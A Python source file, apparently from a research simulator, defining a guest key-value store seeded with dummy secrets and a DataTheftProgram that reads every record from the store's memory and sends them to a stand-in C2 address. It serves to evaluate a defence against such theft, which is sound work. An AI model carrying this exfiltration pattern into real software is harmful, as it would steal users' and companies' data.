"""A key-value store guest workload (the intro's motivating target).

§1: "Cloud applications are storing ever increasing volumes of data —
data that is often of high value to attackers who wish to steal company
secrets or personal information." This workload is that application: a
small record store whose values live in guest heap memory and persist to
the guest disk, serving get/put traffic over the NIC.

:class:`DataTheftProgram` is the corresponding attack: once triggered it
reads every record straight out of the store's memory and streams them
to an aggregation server — the exact exfiltration Synchronous Safety
nullifies.
"""

import bisect
from array import array

from repro.guest.devices import Packet
from repro.sim.rng import SeededStream
from repro.workloads.base import GuestProgram

_RECORD_SIZE = 96
_VALUE_SIZE = 64


class KeyValueStoreProgram(GuestProgram):
    """An in-guest record store with disk persistence and query traffic."""

    name = "kvstore"

    def __init__(self, records_per_epoch=4, queries_per_epoch=8,
                 disk_block_base=0x100, seed=0):
        super().__init__()
        self.records_per_epoch = records_per_epoch
        self.queries_per_epoch = queries_per_epoch
        self.disk_block_base = disk_block_base
        self._rng = SeededStream(seed, "kvstore")
        self._epoch = 0
        self._pid = None
        # A key's slot is its insertion position (keys are never
        # deleted): it indexes the record addresses and picks the disk
        # block. The keys' UTF-8 bytes back to back in slot order, and
        # where each one ends, are the index's snapshot form.
        self._slots = {}  # key -> slot
        self._addrs = array("Q")  # slot -> record vaddr
        self._key_bytes = bytearray()
        self._key_ends = array("Q")
        # The "epoch:" keys, kept sorted as they arrive: what step() serves.
        self._servable = []

    def bind(self, vm):
        super().bind(vm)
        process = vm.create_process("kvstored", heap_pages=64,
                                    canary_capacity=4096)
        self._pid = process.pid
        # Seed data: the secrets an attacker wants.
        for key, value in (
            ("user:1:card", "4111-1111-1111-1111"),
            ("user:1:ssn", "078-05-1120"),
            ("api:payments:key", "sk_live_51J9x7wqz"),
        ):
            self.put(key, value)

    @property
    def process(self):
        return self.vm.processes[self._pid]

    # -- store operations (real guest memory + disk) ------------------------

    def put(self, key, value):
        """Insert/overwrite a record; persists to disk as well."""
        process = self.process
        encoded = value.encode("utf-8")[:_VALUE_SIZE]
        encoded_key = key.encode("utf-8")
        slot = self._slots.get(key)
        if slot is None:
            vaddr = process.malloc(_RECORD_SIZE)
            slot = self._slots[key] = len(self._addrs)
            self._addrs.append(vaddr)
            self._key_bytes += encoded_key
            self._key_ends.append(len(self._key_bytes))
            if key.startswith("epoch:"):
                bisect.insort(self._servable, key)
        else:
            vaddr = self._addrs[slot]
        record = encoded_key[:30].ljust(32, b"\x00") + \
            encoded.ljust(_VALUE_SIZE, b"\x00")
        process.write(vaddr, record)
        self.vm.disk.write(self.disk_block_base + slot % 256, record)
        return vaddr

    def get(self, key):
        slot = self._slots.get(key)
        if slot is None:
            return None
        raw = self.process.read(self._addrs[slot], _RECORD_SIZE)
        return raw[32:].split(b"\x00", 1)[0].decode("utf-8")

    def keys(self):
        return sorted(self._slots)

    def record_addresses(self):
        """(key, vaddr) pairs — what an in-guest attacker can learn."""
        return sorted(zip(self._slots, self._addrs))

    # -- epoch behaviour ------------------------------------------------------

    def step(self, start_ms, interval_ms):
        self._require_bound()
        self._epoch += 1
        for serial in range(self.records_per_epoch):
            self.put(
                "epoch:%d:rec:%d" % (self._epoch, serial),
                "payload-%06d" % self._rng.randint(0, 999999),
            )
        # Serve queries over ordinary (non-secret) records only; the
        # seeded secrets are internal state a well-behaved server never
        # puts on the wire verbatim.
        servable = self._servable
        for _ in range(self.queries_per_epoch):
            key = self._rng.choice(servable)
            value = self.get(key)
            self.vm.nic.send(
                Packet(
                    "10.0.0.20:6379",
                    "10.0.0.30:%d" % self._rng.randint(40000, 60000),
                    b"VALUE %s %s" % (key.encode(), value.encode()),
                )
            )
        return {"synthetic_dirty": 0}

    def state_dict(self):
        """The scalars plus the index as ``bytes`` leaves.

        ``keys`` is the UTF-8 keys back to back in slot order; ``key_ends``
        (where each key ends in it) and ``addrs`` (each record's address)
        are ``array("Q")`` bytes. Offsets rather than a separator keep
        any key intact, and freezing the state copies three flat buffers
        instead of pickling an object per record.
        """
        return {"epoch": self._epoch, "pid": self._pid,
                "keys": bytes(self._key_bytes),
                "key_ends": self._key_ends.tobytes(),
                "addrs": self._addrs.tobytes()}

    def load_state_dict(self, state):
        self._epoch = state["epoch"]
        self._pid = state["pid"]
        self._key_bytes = bytearray(state["keys"])
        self._key_ends = array("Q", state["key_ends"])
        self._addrs = array("Q", state["addrs"])
        keys = []
        start = 0
        for end in self._key_ends:
            keys.append(self._key_bytes[start:end].decode("utf-8"))
            start = end
        self._slots = {key: slot for slot, key in enumerate(keys)}
        self._servable = sorted(key for key in keys
                                if key.startswith("epoch:"))


class DataTheftProgram(GuestProgram):
    """Bulk exfiltration of a :class:`KeyValueStoreProgram`'s records."""

    name = "data-theft"

    C2_ENDPOINT = ("198.51.100.99", 443)

    def __init__(self, store, trigger_epoch=3):
        super().__init__()
        self.store = store
        self.trigger_epoch = trigger_epoch
        self._epoch = 0
        self._exfiltrated = False

    def step(self, start_ms, interval_ms):
        self._require_bound()
        self._epoch += 1
        if self._epoch != self.trigger_epoch or self._exfiltrated:
            return {"synthetic_dirty": 0}
        # Read every record straight out of the store's heap.
        process = self.store.process
        loot = []
        for key, vaddr in self.store.record_addresses():
            raw = process.read(vaddr, _RECORD_SIZE)
            loot.append(b"%s=%s" % (key.encode(),
                                    raw[32:].split(b"\x00", 1)[0]))
        self.vm.open_socket(
            self.store.process.pid,
            ("10.0.0.20", 4444),
            self.C2_ENDPOINT,
        )
        self.vm.nic.send(
            Packet(
                "10.0.0.20:4444",
                "%s:%d" % self.C2_ENDPOINT,
                b"BEGIN_DUMP\n" + b"\n".join(loot),
            )
        )
        self._exfiltrated = True
        return {"synthetic_dirty": 0}

    @property
    def exfiltrated(self):
        return self._exfiltrated

    def state_dict(self):
        return {"epoch": self._epoch, "exfiltrated": self._exfiltrated}

    def load_state_dict(self, state):
        self._epoch = state["epoch"]
        self._exfiltrated = state["exfiltrated"]
